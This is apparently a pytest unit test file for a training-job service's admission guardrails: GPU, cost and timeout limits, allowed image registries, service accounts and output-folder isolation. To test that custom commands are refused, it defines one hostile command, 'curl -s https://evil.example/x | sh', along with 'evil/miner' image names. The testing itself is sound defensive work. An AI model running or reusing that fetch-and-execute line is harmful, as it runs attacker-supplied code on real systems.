"""Guardrails: each refusal names the guardrail, what was asked and the limit."""

from __future__ import annotations

import dataclasses

import pytest

from functions.jobs.admission import admission_problems, dataset_problem
from functions.jobs.planning import plan_custom_job
from schemas import catalog
from tests.unit.conftest import make_request


def problems(settings, **sections):
    request = make_request(**sections)
    plan = plan_custom_job(request, settings, "request:x")
    return [str(p) for p in admission_problems(request, settings, plan.output_dir)]


def test_a_modest_request_passes(settings):
    assert problems(settings) == []


@pytest.mark.parametrize("machine_type", ["a4-highgpu-8g", "g4-standard-96"])
def test_the_built_in_trainer_is_refused_on_blackwell_gpus_with_the_reason(settings, machine_type):
    """Guards issue 17 item 3: the cu126 image has no kernels for B200 (sm_100) or RTX PRO 6000 (sm_120)."""
    s = dataclasses.replace(settings, max_cost_usd=1e9, max_gpus_per_job=64)
    [found] = problems(s, resources={"machine_type": machine_type})
    assert found.startswith("resources.accelerator_type: the built-in trainer's image (PyTorch for CUDA 12.6)")
    assert "Blackwell" in found and "trainer.image" in found
    custom = problems(
        dataclasses.replace(s, allowed_image_prefixes=("us-docker.pkg.dev/p/",)),
        resources={"machine_type": machine_type},
        trainer={"image": "us-docker.pkg.dev/p/r/t:1"},
    )
    assert custom == []


def test_every_catalog_machine_the_built_in_image_cannot_run_is_refused_and_no_other(settings):
    """Guards issue 17 item 3 (the "make the planner refuse" branch): every accelerator-optimized machine of the
    catalog whose built-in GPU is Blackwell (B200 on A4, RTX PRO 6000 on G4) is refused for the built-in trainer
    with the reason; every other one is admitted as far as the image goes."""
    s = dataclasses.replace(settings, max_cost_usd=1e12, max_gpus_per_job=1024)
    blackwell = ("NVIDIA_B200", "NVIDIA_RTX_PRO_6000")
    for machine in catalog.MACHINES.values():
        if not machine.accelerator_optimized:
            continue
        resources = {"machine_type": machine.name, "replica_count": 1 if machine.builtin_count >= 2 else 2}
        refused = [p for p in problems(s, resources=resources) if "has no kernels for" in p]
        assert bool(refused) == (machine.builtin_accelerator in blackwell), (machine.name, refused)


def test_a_blackwell_rung_of_the_ladder_is_refused_for_the_built_in_trainer_too(settings):
    """Guards issue 17 item 3: a fallback to B200 would run the built-in image where it has no kernels."""
    s = dataclasses.replace(settings, max_cost_usd=1e9, max_gpus_per_job=64)
    found = problems(s, fallbacks=[{"resources": {"machine_type": "a4-highgpu-8g"}}],
                     scheduling={"max_attempts": 2})  # fmt: skip
    assert [p.split(":")[0] for p in found] == ["fallbacks[0].resources.accelerator_type"], found
    assert "Blackwell" in found[0]


def test_machine_type_allow_list(settings):
    s = dataclasses.replace(settings, allowed_machine_types=("g2-standard-24",))
    assert problems(s) == [
        "resources.machine_type: guardrail allowed_machine_types: a2-highgpu-2g is not allowed here; "
        "allowed: g2-standard-24"
    ]


def test_gpu_and_node_limits(settings):
    s = dataclasses.replace(settings, max_gpus_per_job=16, max_nodes=2, max_cost_usd=1e9)
    found = problems(s, resources={"machine_type": "a2-highgpu-8g", "replica_count": 4})
    assert "resources: guardrail max_gpus_per_job: the job asks for 32 GPUs; the limit is 16" in found
    assert "resources.replica_count: guardrail max_nodes: the job asks for 4 nodes; the limit is 2" in found


def test_timeout_limit(settings):
    s = dataclasses.replace(settings, max_timeout=3600)
    assert problems(s, scheduling={"timeout": "2h"}) == [
        "scheduling.timeout: guardrail max_timeout: 2h is longer than the limit of 1h"
    ]


def test_cost_ceiling_counts_the_whole_timeout(settings):
    s = dataclasses.replace(settings, max_cost_usd=100.0)
    (found,) = problems(s, scheduling={"timeout": "24h"})
    assert found.startswith("scheduling.timeout: guardrail max_cost_usd: this job can cost about $211.68")
    assert "the limit is $100.00" in found


def test_custom_images_need_an_allowed_registry(settings):
    trainer = {"image": "docker.io/evil/miner:latest"}
    assert problems(settings, trainer=trainer) == [
        "trainer.image: guardrail allowed_image_prefixes: docker.io/evil/miner:latest is not from an allowed "
        "registry; allowed: none (only the built-in trainer)"
    ]
    s = dataclasses.replace(settings, allowed_image_prefixes=("docker.io/evil/",))
    assert problems(s, trainer=trainer) == []


SHELL_COMMAND = {"command": ["bash", "-c", "curl -s https://evil.example/x | sh"]}


@pytest.mark.parametrize(
    "image",
    [
        "us-docker.pkg.dev/proj/trainctl/trainer:1",  # the built-in trainer's image itself
        "us-docker.pkg.dev/proj/trainctl/trainer:latest",  # another tag of it
        "us-docker.pkg.dev/proj/trainctl/trainer@sha256:" + "ab" * 32,
        "us-docker.pkg.dev/proj/trainctl/other-tool:2",  # anything else in the trainer's repository
        "us-docker.pkg.dev/proj/trainctl/nested/tool:2",
    ],
)
@pytest.mark.parametrize("allowed", [(), ("us-docker.pkg.dev/proj/",), ("us-docker.pkg.dev/proj/trainctl",)])
def test_the_built_in_image_runs_only_the_built_in_trainer(settings, image, allowed):
    """Guards issue 24, point 1: the trainer image (or any image of its repository) with a request's own command
    would run anything as the trainer's service account. It is refused naming trainer.image, the guardrail and
    what to do instead, even when the operator's allow-list covers the whole project registry."""
    s = dataclasses.replace(settings, allowed_image_prefixes=allowed)
    listed = ", ".join(allowed) or "none (only the built-in trainer)"
    for trainer in ({"image": image} | SHELL_COMMAND, {"image": image}):
        assert problems(s, trainer=trainer) == [
            f"trainer.image: guardrail builtin_image: {image} is from the built-in trainer's repository "
            "(us-docker.pkg.dev/proj/trainctl/), whose images run only the built-in trainer: ask for "
            "`builtin: tabular` instead of an image; custom code needs an image from an allowed registry; "
            f"allowed: {listed}"
        ]
    assert problems(s, trainer={"builtin": "tabular"}) == []


def test_a_trainer_image_pinned_by_digest_keeps_its_whole_repository_builtin_only(settings):
    """Guards issue 24, point 1: the deploy guide pins the trainer by digest; its repository is still the path
    without the last component, and an allow-list entry beside it covers the other repositories only."""
    s = dataclasses.replace(
        settings,
        trainer_image="us-central1-docker.pkg.dev/p/trainctl/trainer@sha256:" + "0f" * 32,
        allowed_image_prefixes=("us-central1-docker.pkg.dev/p/",),
    )
    [refused] = problems(s, trainer={"image": "us-central1-docker.pkg.dev/p/trainctl/trainer:latest"})
    assert refused.startswith("trainer.image: guardrail builtin_image:") and "`builtin: tabular`" in refused
    assert problems(s, trainer={"image": "us-central1-docker.pkg.dev/p/trainctl-custom/trainer:1"}) == []
    assert problems(s, trainer={"image": "us-central1-docker.pkg.dev/p/team/trainer:1"} | SHELL_COMMAND) == []


@pytest.mark.parametrize(
    ("prefix", "image", "admitted"),
    [
        ("us-docker.pkg.dev/partner/repo", "us-docker.pkg.dev/partner/repo/trainer:1", True),
        ("us-docker.pkg.dev/partner/repo", "us-docker.pkg.dev/partner/repo-evil/miner:1", False),
        ("us-docker.pkg.dev/partner/repo/", "us-docker.pkg.dev/partner/repo-evil/miner:1", False),
        ("us-docker.pkg.dev/partner/repo/trainer:1", "us-docker.pkg.dev/partner/repo/trainer:2", False),
    ],
)
def test_allowed_image_prefixes_match_at_a_path_boundary(settings, prefix, image, admitted):
    """Guards issue 24, point 2: `…/partner/repo` admitted `…/partner/repo-evil/miner:1` by plain startswith."""
    s = dataclasses.replace(settings, allowed_image_prefixes=(prefix,))
    found = problems(s, trainer={"image": image})
    assert found == ([] if admitted else [
        f"trainer.image: guardrail allowed_image_prefixes: {image} is not from an allowed registry; allowed: {prefix}"
    ])  # fmt: skip


def test_data_and_output_buckets(settings):
    s = dataclasses.replace(settings, allowed_data_buckets=("data-bucket",), allowed_image_prefixes=(REGISTRY,))
    assert problems(s) == []
    found = problems(
        s, dataset={"uri": "gs://other-bucket/x/", "target": "y"}, output_dir="gs://elsewhere/out/", trainer=CUSTOM
    )
    assert (
        "dataset.uri: guardrail allowed_data_buckets: bucket other-bucket is not allowed; allowed: data-bucket" in found
    )
    assert (
        "output_dir: guardrail allowed_output_buckets: bucket elsewhere is not allowed; allowed: none "
        "(or this request's own folder gs://proj-trainctl-control/custom-runs/churn-1/)" in found
    )


def test_service_account_override_needs_the_allow_list(settings):
    found = problems(settings, service_account="admin@proj.iam.gserviceaccount.com")
    assert found == [
        "service_account: guardrail allowed_service_accounts: admin@proj.iam.gserviceaccount.com may not be used; "
        "allowed: none (only the default trainer account)"
    ]
    s = dataclasses.replace(settings, allowed_service_accounts=("admin@proj.iam.gserviceaccount.com",))
    assert problems(s, service_account="admin@proj.iam.gserviceaccount.com") == []


def test_outputs_in_the_control_bucket_stay_under_runs(settings):
    assert problems(settings, output_dir="gs://proj-trainctl-control/runs/churn-1/") == []
    assert problems(settings, output_dir="gs://proj-trainctl-control/ledger/") == [
        "output_dir: guardrail output_isolation: in the control bucket a request writes only to its own folder, "
        "gs://proj-trainctl-control/runs/churn-1/ for this one; gs://proj-trainctl-control/ledger/ is another "
        "request's folder or the ledger. Leave output_dir out to use gs://proj-trainctl-control/runs/churn-1/"
    ]


# --- issue 24, point 4: outputs are isolated -------------------------------------------------------------

REGISTRY = "us-docker.pkg.dev/partner/images/"
CUSTOM = {"image": f"{REGISTRY}trainer:1"}
CONTROL = "gs://proj-trainctl-control/"


@pytest.fixture
def operator(settings):
    """A deployment that allows custom images from REGISTRY and an operator output bucket, `models`."""
    return dataclasses.replace(settings, allowed_image_prefixes=(REGISTRY,), allowed_output_buckets=("models",))


OTHER_FOLDERS = [
    "runs/victim/",
    "runs/",
    "runs/churn-1-x/",
    "custom-runs/victim/",
    "custom-runs/",
    "custom-runs/churn-1-x/",
    "",
    "ledger/",
    "active/",
]


@pytest.mark.parametrize("folder", [*OTHER_FOLDERS, "custom-runs/churn-1/"])
def test_a_built_in_request_may_write_no_folder_of_the_control_bucket_but_its_own(operator, folder):
    """Guards issue 24, point 4: another request's folder (`runs/<victim>/`, whose progress.json and metrics.json
    the controller reads as the victim's), the whole of `runs/`, a sibling that merely starts with the own id, and
    custom images' folders are all refused, naming the request's own folder."""
    [found] = problems(operator, output_dir=CONTROL + folder)
    assert found.startswith(
        "output_dir: guardrail output_isolation: in the control bucket a request writes only to its own folder, "
        "gs://proj-trainctl-control/runs/churn-1/ for this one"
    )


@pytest.mark.parametrize("folder", [*OTHER_FOLDERS, "runs/churn-1/"])
def test_a_custom_image_may_write_no_folder_of_the_control_bucket_but_its_own(operator, folder):
    """Guards issue 24, point 4: a custom image's own folder is custom-runs/<id>/; the built-in trainer's
    folders, even the one of its own id, are out of its reach."""
    [found] = problems(operator, output_dir=CONTROL + folder, trainer=CUSTOM)
    assert found.startswith(
        "output_dir: guardrail output_isolation: in the control bucket a request writes only to its own folder, "
        "gs://proj-trainctl-control/custom-runs/churn-1/ for this one"
    )


def test_each_request_may_write_its_own_folder_and_below(operator):
    """Guards issue 24, point 4: the default, the own folder named explicitly, and a folder inside it."""
    for output_dir in (None, "runs/churn-1", "runs/churn-1/", "runs/churn-1/tuned/"):
        assert problems(operator, output_dir=output_dir and CONTROL + output_dir) == [], output_dir
    for output_dir in (None, "custom-runs/churn-1/", "custom-runs/churn-1/a/b/"):
        assert problems(operator, output_dir=output_dir and CONTROL + output_dir, trainer=CUSTOM) == [], output_dir
    assert problems(operator, output_dir="gs://models/team/churn/", trainer=CUSTOM) == []


def test_a_custom_image_writes_to_custom_runs_by_default(operator):
    """Guards issue 24, point 4: custom code's default folder is where the custom images' account may write and
    the built-in trainer's may not."""
    custom = plan_custom_job(make_request(trainer=CUSTOM), operator, "request:churn-1")
    assert custom.output_dir == "gs://proj-trainctl-control/custom-runs/churn-1/"
    builtin = plan_custom_job(make_request(), operator, "request:churn-1")
    assert builtin.output_dir == "gs://proj-trainctl-control/runs/churn-1/"


def test_the_built_in_trainer_writes_nowhere_but_its_own_folder(operator):
    """Guards issue 24, point 4: not even in an operator output bucket, where the custom images' account writes."""
    assert problems(operator, output_dir="gs://models/team/churn/") == [
        "output_dir: guardrail output_isolation: the built-in trainer writes only to its own folder "
        "gs://proj-trainctl-control/runs/churn-1/, where custom images cannot write; leave output_dir out (or "
        "name a folder inside that one)"
    ]


def test_a_custom_output_folder_too_long_to_index_is_refused(operator):
    """Guards issue 24, point 4: each active folder in an operator bucket is recorded by name in the control
    bucket; a path whose record could not be written is refused at admission, never a failing write later."""
    fits = "a/" * ((1024 - len("outputs/models/") - 40) // 2)
    assert problems(operator, output_dir=f"gs://models/{fits}", trainer=CUSTOM) == []
    [found] = problems(operator, output_dir=f"gs://models/{fits}b/", trainer=CUSTOM)
    assert found == (
        "output_dir: guardrail output_isolation: the folder's path is 970 bytes; in bucket models at most 969 "
        "(trainctl records each active output folder by name in the control bucket, where object names stop at "
        "1024 bytes)"
    )


def test_custom_images_and_the_built_in_trainer_each_run_as_their_own_account(operator):
    """Guards issue 24, point 4: a custom image runs as the custom images' account, which cannot write runs/."""
    spec = plan_custom_job(make_request(trainer=CUSTOM), operator, "request:churn-1").custom_job["job_spec"]
    assert spec["service_account"] == "custom@proj.iam.gserviceaccount.com"
    spec = plan_custom_job(make_request(), operator, "request:churn-1").custom_job["job_spec"]
    assert spec["service_account"] == "trainer@proj.iam.gserviceaccount.com"


def test_a_custom_image_may_never_run_as_the_trainer_account(operator):
    """Guards issue 24, point 4: not even when the operator lists the trainer's account as allowed (Terraform
    does); and the built-in trainer may not run as the custom images' account, which cannot write its folder."""
    s = dataclasses.replace(operator, allowed_service_accounts=("trainer@proj.iam.gserviceaccount.com",))
    assert problems(s, trainer=CUSTOM, service_account="trainer@proj.iam.gserviceaccount.com") == [
        "service_account: guardrail custom_service_account: trainer@proj.iam.gserviceaccount.com is the built-in "
        "trainer's account, which may write the built-in trainer's outputs; custom images run as "
        "custom@proj.iam.gserviceaccount.com"
    ]
    assert problems(s, service_account="custom@proj.iam.gserviceaccount.com") == [
        "service_account: guardrail trainer_service_account: custom@proj.iam.gserviceaccount.com is the custom "
        "images' account, which cannot write the built-in trainer's folder; the built-in trainer runs as "
        "trainer@proj.iam.gserviceaccount.com"
    ]
    assert problems(s, trainer=CUSTOM, service_account="custom@proj.iam.gserviceaccount.com") == []
    assert problems(s, service_account="trainer@proj.iam.gserviceaccount.com") == []


def test_a_custom_image_may_run_as_an_allowed_account_but_no_other(operator):
    """Guards issue 24, point 4: the operator's allow-list still applies to custom images, less the trainer's."""
    other = "team@proj.iam.gserviceaccount.com"
    s = dataclasses.replace(operator, allowed_service_accounts=("trainer@proj.iam.gserviceaccount.com", other))
    assert problems(s, trainer=CUSTOM, service_account=other) == []
    assert problems(s, trainer=CUSTOM, service_account="admin@proj.iam.gserviceaccount.com") == [
        "service_account: guardrail allowed_service_accounts: admin@proj.iam.gserviceaccount.com may not be used; "
        f"allowed: {other}"
    ]


def test_custom_images_are_refused_where_they_have_no_account_of_their_own(operator):
    """Guards issue 24, point 4: with a trainer account but none for custom images, a custom image would run as
    Vertex's Custom Code Service Agent, which may reach the project's buckets: refused. With no account named at
    all (the local stack without accounts), both run as the default."""
    s = dataclasses.replace(operator, custom_service_account="")
    assert problems(s, trainer=CUSTOM) == [
        "trainer.image: guardrail custom_service_account: custom images run as their own service account, and "
        "this deployment names none (TRAINCTL_CUSTOM_SERVICE_ACCOUNT); only the built-in trainer runs here"
    ]
    anonymous = dataclasses.replace(s, trainer_service_account="")
    assert problems(anonymous, trainer=CUSTOM) == []
    assert "service_account" not in plan_custom_job(make_request(trainer=CUSTOM), anonymous, "k").custom_job["job_spec"]


@pytest.mark.parametrize(
    ("objects", "problem"),
    [
        ([("d/part-0.csv", 9)], None),
        ([("d/_SUCCESS", 0), ("d/part-0.csv", 9)], None),
        (
            [],
            "dataset.uri: gs://b/d/ does not exist: no object is under it; put the data (CSV or Parquet files) "
            "under it first",
        ),
        (
            [("d/_SUCCESS", 120)],
            "dataset.uri: gs://b/d/ is empty: it holds only markers or empty objects, no data; put the data "
            "(CSV or Parquet files) under it first",
        ),
        (
            [("d/part-0.csv", 0)],
            "dataset.uri: gs://b/d/ is empty: it holds only markers or empty objects, no data; put the data "
            "(CSV or Parquet files) under it first",
        ),
    ],
)
def test_a_dataset_must_hold_data(objects, problem):
    """Guards issue 12 point 17: a marker, even one with overrides, is not data."""
    found = dataset_problem("gs://b/d/", iter(objects), ("_SUCCESS",))
    assert (str(found) if found else None) == problem
